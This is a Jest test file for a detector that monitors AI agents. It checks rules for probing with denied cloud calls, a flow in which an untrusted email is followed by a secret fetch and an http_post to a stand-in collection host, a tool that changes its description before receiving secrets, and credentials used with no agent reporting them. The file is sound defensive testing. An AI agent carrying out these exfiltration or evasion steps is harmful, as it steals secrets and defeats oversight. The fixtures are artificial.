// Stories told by the rules that come with the program, each beside its innocent look-alike.
import { expect, test } from '@jest/globals'
import { at, listed, play, second, types, type Finding, type Played, type Wire } from './play.js'

const rulesOf = ({ findings }: Played): readonly string[] =>
  findings.map(({ finding_info }) => finding_info.analytic.uid)
const RULES = {
  denied: 'cb0a84e1-5ea0-586d-8ae4-17fae2c806cf',
  flow: 'b090c771-a8f9-55f7-8f5f-959a01b049c4',
  rugPull: 'd776e64d-93e9-5da1-9ea9-1a5b9e959929',
  silentAgent: '10e7ae33-36f1-5b4d-b80f-2b835f2b2208',
  silentRole: '20f46bf6-ed3c-5417-adc2-941c3b115d65',
} as const
const about = (played: Played, rule: string): readonly Finding[] =>
  played.findings.filter(({ finding_info }) => finding_info.analytic.uid === rule)
const evidence = ({ finding_info }: Finding): readonly string[] =>
  finding_info.related_events.map(({ uid }) => uid)
const working = (agent: string, task: string, purpose: string): readonly Wire[] => [
  at(0, 'task.started', { agent, task, purpose }),
  at(1, 'credential.issued', {
    workload: `spiffe://corp/agents/${agent}`,
    credential: `c-${agent}`,
    task,
  }),
]
/** Something unrelated at this second, so that time goes on. */
const clock = (s: number): Wire => at(s, 'process.started', { workload: 'spiffe://corp/clock' })
const denied = (s: number, action: string): Wire =>
  at(s, 'resource.accessed', { credential: 'c-a1', action, resource: 'r', outcome: 'deny' })

const KINDS = ['Instances', 'Images', 'Subnets', 'Volumes', 'Vpcs', 'Hosts', 'Fleets'] as const
const PROBES = ['Describe', 'Get'].flatMap((verb) => KINDS.map((kind) => `ec2:${verb}${kind}`))

test('S08: 25 calls are denied within a minute over 14 operations: one finding, counted on, and no command', async () => {
  const calls = Array.from({ length: 25 }, (_, i) =>
    denied(10 + i * 2, PROBES[i % PROBES.length] as string),
  )
  const played = await play([...working('a1', 'T1', 'summarise'), ...calls])
  const found = about(played, RULES.denied)
  expect(new Set(found.map(({ finding_info }) => finding_info.uid)).size).toBe(1)
  expect(found.filter(({ activity_id }) => activity_id === 1)).toHaveLength(1)
  expect(played.commands).toEqual([])
})

test('S08: it is one finding in whatever order the calls arrive', async () => {
  const calls = PROBES.map((action, i) => denied(10 + i * 3, action))
  const begin = working('a1', 'T1', 'summarise')
  const uids = async (lines: readonly Wire[]): Promise<ReadonlySet<string>> =>
    new Set(about(await play(lines), RULES.denied).map(({ finding_info }) => finding_info.uid))
  const inOrder = await uids([...begin, ...calls])
  expect(inOrder.size).toBe(1)
  expect((await uids([...begin, ...calls.slice().reverse()])).size).toBe(1)
})

test('B11: the same operation is denied 40 times with growing pauses: a retry loop is no probing', async () => {
  const retries = Array.from({ length: 40 }, (_, i) =>
    denied(10 + i + (i * i) / 20, 's3:GetObject'),
  )
  const played = await play([...working('a1', 'T1', 'summarise'), ...retries])
  expect(played.findings.filter(({ severity_id }) => severity_id > 2)).toEqual([])
  expect(rulesOf(played)).not.toContain(RULES.denied)
  expect(played.commands).toEqual([])
})

const MAIL = at(10, 'tool.returned', {
  agent: 'a1',
  task: 'T1',
  more: { tool: { name: 'read_email', result: 'the weekly numbers', result_trust: 'external' } },
})
const SECRET = at(13, 'resource.accessed', {
  credential: 'c-a1',
  action: 'secretsmanager:GetSecretValue',
  resource: 'arn:aws:secretsmanager:eu-west-1:1:secret:db',
  outcome: 'allow',
})
const POST = at(15, 'tool.called', {
  agent: 'a1',
  task: 'T1',
  more: { tool: { name: 'http_post', arguments: { url: 'https://collect.example/drop' } } },
})

test("S09: a stranger's mail, then a secret, then a post to a host never seen: one flow with its three steps", async () => {
  const played = await play([...working('a1', 'T1', 'triage'), MAIL, SECRET, POST])
  const [flow, ...more] = about(played, RULES.flow)
  expect(more).toEqual([])
  expect(evidence(flow as Finding)).toEqual([MAIL['id'], SECRET['id'], POST['id']])
  expect((flow as Finding).severity_id).toBe(5)
  expect(types(played.findings)).toContain('provenance.untrusted')
  expect(listed(played.commands)).toEqual(
    expect.arrayContaining(['revoke credential c-a1', 'revoke task T1']),
  )
  const high = at(0, 'task.started', { agent: 'a1', tier: 'high', task: 'T1', purpose: 'triage' })
  const [, issued] = working('a1', 'T1', 'triage')
  const strict = await play([high, issued as Wire, MAIL, SECRET, POST])
  expect(listed(strict.commands)).toContain('contain agent a1')
})

test('S09: it is found as well where the word of the secret arrives last', async () => {
  const played = await play([...working('a1', 'T1', 'triage'), MAIL, POST, SECRET])
  expect(about(played, RULES.flow)).toHaveLength(1)
})

test('S09, innocent: the same steps with a mail of a colleague, or with the secret after the post, are no flow', async () => {
  const colleague: Wire = {
    ...MAIL,
    tool: { name: 'read_email', result: 'the weekly numbers', result_trust: 'user' },
  }
  const after: Wire = { ...SECRET, time: (POST['time'] as number) + 5_000 }
  for (const lines of [
    [colleague, SECRET, POST],
    [MAIL, POST, after],
  ]) {
    const played = await play([...working('a1', 'T1', 'triage'), ...lines])
    expect(rulesOf(played)).not.toContain(RULES.flow)
  }
})

const change = at(100, 'tool.changed', {
  agent: 'gateway',
  more: { tool: { name: 'search_notes' }, attributes: { hash: 'sha256:b2', server: 'mcp-notes' } },
})
const secretCall = (s: number): Wire =>
  at(s, 'tool.called', {
    agent: 'a1',
    task: 'T1',
    more: { tool: { name: 'search_notes' }, attributes: { label: 'secret' } },
  })

test('S23: a tool says something else of itself and is then given a secret: change and use in one finding', async () => {
  const played = await play([...working('a1', 'T1', 'research'), change, secretCall(120)])
  const [found, ...more] = about(played, RULES.rugPull)
  expect(more).toEqual([])
  expect(evidence(found as Finding)).toEqual([change['id'], secretCall(120)['id']])
  expect((found as Finding).severity_id).toBe(4)
})

test('S23, innocent: a change by itself is for information, and so is a secret that went to the tool before it', async () => {
  const alone = await play([...working('a1', 'T1', 'research'), change, clock(200)])
  expect(alone.joined.map(({ id }) => id)).toContain(change['id'])
  expect(alone.findings.filter(({ severity_id }) => severity_id > 1)).toEqual([])
  expect(alone.commands).toEqual([])
  const before = await play([...working('a1', 'T1', 'research'), secretCall(80), change])
  expect(rulesOf(before)).not.toContain(RULES.rugPull)
})

const ROLE = 'arn:aws:iam::1:role/agents'
const asRole = (s: number): Wire =>
  at(s, 'resource.accessed', {
    credential: 'c-role',
    action: 's3:PutObject',
    resource: 'arn:aws:s3:::reports',
    outcome: 'allow',
    more: {
      source: { ip: '198.51.100.4', user_agent: 'aws-cli/2.15' },
      attributes: { role: ROLE },
    },
  })
const asAgent = {
  credential: 'c-a1',
  action: 's3:PutObject',
  resource: 'arn:aws:s3:::reports',
  outcome: 'allow',
}
const onRole = ['a1', 'a2', 'a3'].map((agent, i) =>
  at(i, 'credential.issued', {
    agent,
    workload: 'spiffe://corp/runtime',
    credential: 'c-role',
    more: { attributes: { role: ROLE } },
  }),
)

test('S18: a role of several agents is used while none of them says anything: role known, agent unknown, all its holders named', async () => {
  const played = await play([...onRole, asRole(3600), clock(3 * 3600)])
  const [found, ...more] = about(played, RULES.silentRole)
  expect(more).toEqual([])
  expect((found as Finding).unmapped.ambit).toMatchObject({
    agent_id: '',
    credential_id: 'c-role',
    attributed: false,
    candidates: ['a1', 'a2', 'a3'],
  })
  expect(evidence(found as Finding)).toEqual([asRole(3600)['id']])
  expect(second((found as Finding).time)).toBe(3600 + 1800)
  expect(played.commands).toEqual([])
})

test('S18: the role of one agent is used while the agent says nothing', async () => {
  const use = at(3600, 'resource.accessed', {
    ...asAgent,
    more: { source: { ip: '198.51.100.4' } },
  })
  const played = await play([...working('a1', 'T1', 'deploy'), use, clock(3 * 3600)])
  expect(about(played, RULES.silentAgent).map(evidence)).toEqual([[use['id']]])
  expect(played.commands).toEqual([])
})

test('S18, innocent: one of the agents on the role reports a call with it, before or after, or late', async () => {
  const call = (s: number): Wire =>
    at(s, 'tool.called', { agent: 'a2', credential: 'c-role', tool: 'write_file' })
  for (const lines of [
    [call(3590), asRole(3600)],
    [asRole(3600), call(3610)],
    [asRole(3600), clock(3700), call(3595)],
  ]) {
    const played = await play([...onRole, ...lines, clock(3 * 3600)])
    expect(rulesOf(played)).not.toContain(RULES.silentRole)
    expect(played.commands).toEqual([])
  }
})

const requests = (from: number, until: number, serial: () => string): readonly Wire[] =>
  Array.from({ length: until - from }, (_, i) =>
    at(from + i, 'resource.accessed', {
      credential: serial(),
      action: 's3:GetObject',
      resource: 'arn:aws:s3:::reports',
      outcome: 'allow',
      workload: 'spiffe://corp/agents/a1',
    }),
  )

test('B04: an agent starts again under a new serial and both are in use for 20 s: nothing', async () => {
  let n = 0
  const alternate = (): string => (n++ % 2 === 0 ? 'serial-1' : 'serial-2')
  const svid = (s: number, credential: string): Wire =>
    at(s, 'credential.issued', {
      agent: 'a1',
      workload: 'spiffe://corp/agents/a1',
      credential,
      task: 'T1',
      expiresS: s + 3600,
    })
  const lines = [
    at(0, 'task.started', { agent: 'a1', task: 'T1', purpose: 'summarise' }),
    svid(1, 'serial-1'),
    ...requests(10, 15, () => 'serial-1'),
    at(1200, 'workload.stopped', { workload: 'spiffe://corp/agents/a1' }),
    at(1201, 'workload.started', { workload: 'spiffe://corp/agents/a1' }),
    svid(1202, 'serial-2'),
    ...requests(1203, 1223, alternate),
    clock(2000),
  ]
  const played = await play(lines)
  expect(played.findings).toEqual([])
  expect(played.commands).toEqual([])
  expect(
    new Set(played.joined.filter((e) => e.type === 'resource.accessed').map((e) => e.identity)),
  ).toEqual(new Set(['a1']))
  const elsewhere = await play([
    ...lines,
    at(2001, 'resource.accessed', {
      credential: 'serial-1',
      action: 's3:GetObject',
      resource: 'arn:aws:s3:::reports',
      outcome: 'allow',
      workload: 'spiffe://corp/nodes/n2',
    }),
  ])
  expect(types(elsewhere.findings)).toEqual(['second-workload'])
  expect(listed(elsewhere.commands)).toEqual(['revoke credential serial-1'])
})
